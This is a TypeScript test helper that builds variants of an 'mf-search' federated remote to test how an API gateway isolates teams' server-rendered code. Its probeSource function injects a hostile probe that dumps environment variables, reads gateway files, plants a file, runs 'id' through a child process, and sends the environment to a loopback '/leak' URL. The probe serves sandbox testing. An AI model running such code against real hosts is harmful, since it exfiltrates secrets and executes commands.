import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { execFile } from 'node:child_process';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import CompressionPlugin from 'compression-webpack-plugin';
import webpack, { type Configuration } from 'webpack';
import { startStaticOrigin, type StaticOrigin } from '@clinic/api-gateway/testing';
import { createWebpackConfigs } from '../../packages/federation/src/webpack-config.ts';
import { REPO_ROOT } from './gateway.ts';

const NODE_MODULES = path.join(REPO_ROOT, 'node_modules');

/**
 * Builds of mf-search as its team would make them, each marked so a test can tell which one a visitor
 * got: the box's label (`Search, build <mark>`, server HTML and browser), a CSS custom property on the
 * box (`--build`, its stylesheet applied) and an attribute on the results list (`data-build`, its lazy
 * code ran in the browser). Answers each build's `dist` folder; all are built in one webpack run. The
 * box of a build in `throwAlways` throws whenever it renders; one in `throwInBrowser` whenever it renders
 * in a browser, never on the server; one in `throwOnServerAt` when the server renders it at that path (the
 * release check renders it elsewhere).
 */
export async function buildSearchVariants(
  marks: string[],
  {
    throwAlways = [],
    throwInBrowser = [],
    throwOnServerAt = {},
    probeOnServer = {},
    spinOnServerAt = {},
  }: {
    throwAlways?: string[];
    throwInBrowser?: string[];
    throwOnServerAt?: Record<string, string>;
    probeOnServer?: Record<string, ServerProbe>;
    spinOnServerAt?: Record<string, string>;
  } = {},
): Promise<Record<string, string>> {
  const root = mkdtempSync(path.join(tmpdir(), 'mf-search-builds-'));
  const configs: Configuration[] = [];
  const dists: Record<string, string> = {};
  for (const mark of marks) {
    const source = path.join(root, mark, 'mf-search');
    for (const entry of ['src', 'package.json', 'tsconfig.json'])
      cpSync(path.join(REPO_ROOT, 'mf-search', entry), path.join(source, entry), { recursive: true });
    // The copy installs what the remote does in the repository: the workspaces' packages, as source.
    symlinkSync(NODE_MODULES, path.join(source, 'node_modules'));
    edit(
      path.join(source, 'src', 'search-box.tsx'),
      "{intl.formatMessage({ id: 'search.label' })}",
      `{'Search, build ${mark}'}`,
    );
    edit(
      path.join(source, 'src', 'search-panel.tsx'),
      'className="search-panel__list"',
      `className="search-panel__list" data-build="${mark}"`,
    );
    const probe = probeOnServer[mark];
    if (probe) {
      edit(
        path.join(source, 'src', 'search-box.tsx'),
        `{'Search, build ${mark}'}`,
        `{'Search, build ${mark} ' + probed()}`,
      );
      writeFileSync(
        path.join(source, 'src', 'search-box.tsx'),
        `${readFileSync(path.join(source, 'src', 'search-box.tsx'), 'utf8')}\n${probeSource(probe)}`,
      );
    }
    if (spinOnServerAt[mark]) {
      const condition = `typeof document === 'undefined' && useLocation().pathname === ${JSON.stringify(spinOnServerAt[mark])}`;
      edit(
        path.join(source, 'src', 'search-box.tsx'),
        '  const intl = useIntl();',
        `  if (${condition}) for (;;) {}\n  const intl = useIntl();`,
      );
    }
    const throwsAt = throwOnServerAt[mark];
    if (throwAlways.includes(mark)) {
      edit(
        path.join(source, 'src', 'search-box.tsx'),
        '  const intl = useIntl();',
        `  throw new Error('search box of build ${mark} is broken');\n  const intl = useIntl();`,
      );
    } else if (throwInBrowser.includes(mark)) {
      edit(
        path.join(source, 'src', 'search-box.tsx'),
        '  const intl = useIntl();',
        `  if (typeof document !== 'undefined') throw new Error('build ${mark} breaks in browsers');\n  const intl = useIntl();`,
      );
    } else if (throwsAt) {
      const condition = `typeof document === 'undefined' && useLocation().pathname === ${JSON.stringify(throwsAt)}`;
      edit(
        path.join(source, 'src', 'search-box.tsx'),
        '  const intl = useIntl();',
        `  if (${condition}) throw new Error('build ${mark} breaks on the server');\n  const intl = useIntl();`,
      );
    }
    writeFileSync(
      path.join(source, 'src', 'search-box.css'),
      `${readFileSync(path.join(source, 'src', 'search-box.css'), 'utf8')}\n.search-box { --build: "${mark}"; }\n`,
    );
    configs.push(
      ...createWebpackConfigs({ name: 'mf_search', dir: source, exposes: { './search-box': './src/search-box.tsx' } })(
        undefined,
        { mode: 'production' },
      ),
    );
    dists[mark] = path.join(source, 'dist');
  }
  // The copies live outside the repository: they find the repository's packages and loaders there.
  for (const config of configs) {
    config.resolve = { ...config.resolve, modules: ['node_modules', NODE_MODULES] };
    config.resolveLoader = { modules: [NODE_MODULES] };
    config.devtool = false;
    // Not minified: what the release checks and a visitor's browser see of a build (its files, what it
    // shares, what its code does) is the same, and minifying took two thirds of each build's time.
    config.optimization = { ...config.optimization, minimize: false };
    // Nor compressed at build time: the copies are the static host's business, and Brotli's best level on
    // unminified code took longer than the rest of the build.
    config.plugins = config.plugins?.filter((plugin) => !(plugin instanceof CompressionPlugin));
    config.name = `${config.name}-${configs.indexOf(config)}`;
  }
  await compile(configs);
  return dists;
}

/** What a hostile build's server code tries to reach: a file of the gateway's and a listener of the test's. */
export interface ServerProbe {
  files: string[];
  port: number;
}

/**
 * Code for a build's module that, rendered on the server, tries everything a team's code could to reach
 * past the page: the environment, the gateway's files, the network (a listener the test counts), a child
 * process, a worker. `probed()` answers what each attempt got, as JSON, for the box's label; in a browser,
 * nothing.
 */
function probeSource({ files, port }: ServerProbe): string {
  return `
declare const __non_webpack_require__: NodeJS.Require;
function probed(): string {
  if (typeof document !== 'undefined') return '';
  const report: Record<string, string> = {};
  const attempt = (name: string, run: () => unknown) => {
    try {
      report[name] = String(run()).slice(0, 400);
    } catch (error) {
      report[name] = 'refused ' + String((error as { code?: string }).code ?? error);
    }
  };
  const node = __non_webpack_require__;
  attempt('env', () => JSON.stringify(process.env));
  ${JSON.stringify(files)}.forEach((file, index) => attempt('file' + index, () => node('node:fs').readFileSync(file, 'utf8')));
  attempt('write', () => node('node:fs').writeFileSync(${JSON.stringify(`${files[0]}.planted`)}, 'x'));
  attempt('connect', () => node('node:net').connect(${port}, '127.0.0.1').on('error', () => {}));
  attempt('fetch', () => fetch('http://127.0.0.1:${port}/leak?env=' + encodeURIComponent(JSON.stringify(process.env))));
  attempt('childProcess', () => node('node:child_process').execSync('id'));
  attempt('worker', () => new (node('node:worker_threads').Worker)('1', { eval: true }));
  return JSON.stringify(report);
}
`;
}

/** Runs webpack once on `configs`; fails with their errors. */
export function compile(configs: Configuration[]): Promise<void> {
  return new Promise((resolve, reject) =>
    webpack(configs, (error, stats) =>
      error || !stats || stats.hasErrors() ? reject(error ?? new Error(stats?.toString('errors-only'))) : resolve(),
    ),
  );
}

function edit(file: string, from: string, to: string): void {
  const text = readFileSync(file, 'utf8');
  if (!text.includes(from)) throw new Error(`${file} no longer contains ${from}`);
  writeFileSync(file, text.replace(from, to));
}

/** A team's own origin: a static host on loopback with builds of mf-search uploaded under `/mf-search/<mark>/`. */
export interface SearchOrigin extends StaticOrigin {
  /** Each mark's build (its `dist` folder), as `buildSearchVariants` made it. */
  builds: Record<string, string>;
  /** The address of the manifest of the build uploaded under `/mf-search/<mark>/`. */
  manifest(mark: string): string;
}

/**
 * Builds mf-search once per mark (`variants` as `buildSearchVariants` takes them), then starts the origin
 * and uploads each build under its mark. The builds come first: a build that fails leaves no origin behind.
 */
export async function startSearchOrigin(
  marks: string[],
  variants?: Parameters<typeof buildSearchVariants>[1],
): Promise<SearchOrigin> {
  const builds = await buildSearchVariants(marks, variants);
  const origin = await startStaticOrigin();
  for (const [mark, dist] of Object.entries(builds)) upload(dist, path.join(origin.dir, 'mf-search', mark));
  // The origin itself, not a copy: its `delayMs` and `cors` still change how it answers.
  return Object.assign(origin, {
    builds,
    manifest: (mark: string) => `${origin.url}/mf-search/${mark}/mf-manifest.json`,
  });
}

/** Puts a build where a static host serves it, replacing what was there (a deploy in place). */
export function upload(dist: string, to: string): void {
  rmSync(to, { recursive: true, force: true });
  cpSync(dist, to, { recursive: true });
}

interface EditableManifest {
  metaData: { buildInfo: { buildVersion: string } };
  exposes: Array<{ path: string }>;
  shared: Array<{ name: string; version: string; requiredVersion?: string }>;
}

/** Changes an uploaded build's manifest, as a broken build would have it. */
export function editManifest(dir: string, change: (manifest: EditableManifest) => void): void {
  const file = path.join(dir, 'mf-manifest.json');
  const manifest = JSON.parse(readFileSync(file, 'utf8'));
  change(manifest);
  writeFileSync(file, JSON.stringify(manifest));
}

/**
 * An operator's token for one remote's team, made by the local command on the gateway's store in `dataDir`,
 * for builds on `origin` (the team's builds in these journeys are on loopback: the operator registers it).
 */
export async function createTeamToken(dataDir: string, remote: string, team: string, origin: string): Promise<string> {
  const created = await remotes({ DATA_DIR: dataDir }, 'token', 'create', remote, '--name', team, '--origin', origin);
  if (created.code !== 0) throw new Error(`token create ${remote} failed: ${created.output}`);
  return created.output.split('\n')[1]!.trim();
}

/** `npm run remotes -- …` with a gateway's environment (its store, its default remote URLs), as a team runs it. */
export async function remotes(
  env: Record<string, string>,
  ...args: string[]
): Promise<{ code: number; output: string }> {
  try {
    const { stdout, stderr } = await promisify(execFile)(
      process.execPath,
      ['--import', 'tsx', path.join(REPO_ROOT, 'api-gateway', 'scripts', 'remotes.ts'), ...args],
      {
        cwd: REPO_ROOT,
        env: { PATH: process.env.PATH, ...env },
      },
    );
    return { code: 0, output: `${stdout}${stderr}`.trim() };
  } catch (error) {
    const failed = error as { code: number; stdout: string; stderr: string };
    return { code: failed.code, output: `${failed.stdout}${failed.stderr}`.trim() };
  }
}
